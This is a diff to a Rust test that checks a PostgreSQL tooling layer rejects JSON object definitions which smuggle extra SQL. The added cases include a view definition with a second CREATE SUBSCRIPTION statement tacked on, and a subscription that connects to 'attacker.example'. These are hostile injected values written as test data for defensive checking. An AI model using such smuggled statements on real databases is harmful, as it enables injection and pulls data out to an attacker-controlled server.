@@ -340,6 +340,12 @@ fn a_json_object_cannot_smuggle_sql() {
             serde_json::json!({"kind": "owner", "schema": "public", "name": "keep",
                     "arguments": "TABLE public.keep",
                     "definition": "ALTER TABLE public.keep DROP IDENTITY IF EXISTS"}),
+            // A subscription made by another kind, or one that would
+            // connect to its publisher while the plan runs.
+            serde_json::json!({"kind": "view", "schema": "public", "name": "v",
+                    "definition": "CREATE VIEW public.v AS SELECT 1 AS one; CREATE SUBSCRIPTION s CONNECTION 'dbname=x' PUBLICATION p WITH (connect = false)"}),
+            serde_json::json!({"kind": "subscription", "schema": "", "name": "s",
+                    "definition": "CREATE SUBSCRIPTION s CONNECTION 'host=attacker.example dbname=x' PUBLICATION p"}),
         ];
         for object in cases {
             let kind = object["kind"].as_str().unwrap_or_default().to_string();
